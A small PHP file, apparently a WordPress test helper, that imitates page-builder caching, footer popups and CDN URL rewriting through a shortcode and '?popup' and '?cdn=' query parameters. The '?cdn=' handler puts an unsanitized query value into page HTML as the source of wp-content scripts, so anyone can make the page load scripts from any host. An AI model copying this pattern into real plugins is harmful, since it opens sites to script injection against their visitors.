<?php
// Changes pages like other plugins. [kept] caches its content as HTML together with the script
// handles, like page builders; `?popup` adds an element at the end, like popups; `?cdn=` replaces
// the origin of files in wp-content, like CDN plugins.
add_shortcode(
	'kept',
	function ( $attributes, $inside ) {
		$kept = get_transient( 'kept' );
		if ( false === $kept ) {
			$before = wp_scripts()->queue;
			$kept   = array( 'html' => do_shortcode( $inside ), 'handles' => array_values( array_diff( wp_scripts()->queue, $before ) ) );
			set_transient( 'kept', $kept );
		}
		array_map( 'wp_enqueue_script', $kept['handles'] );
		return $kept['html'];
	}
);
add_action(
	'wp_footer',
	function () {
		echo isset( $_GET['popup'] ) ? do_shortcode( '[florin_connect]' ) : '';
	},
	1000
);
add_action(
	'template_redirect',
	function () {
		if ( isset( $_GET['cdn'] ) ) {
			ob_start(
				function ( $html ) {
					return str_replace( content_url(), $_GET['cdn'] . '/wp-content', $html );
				}
			);
		}
	}
);
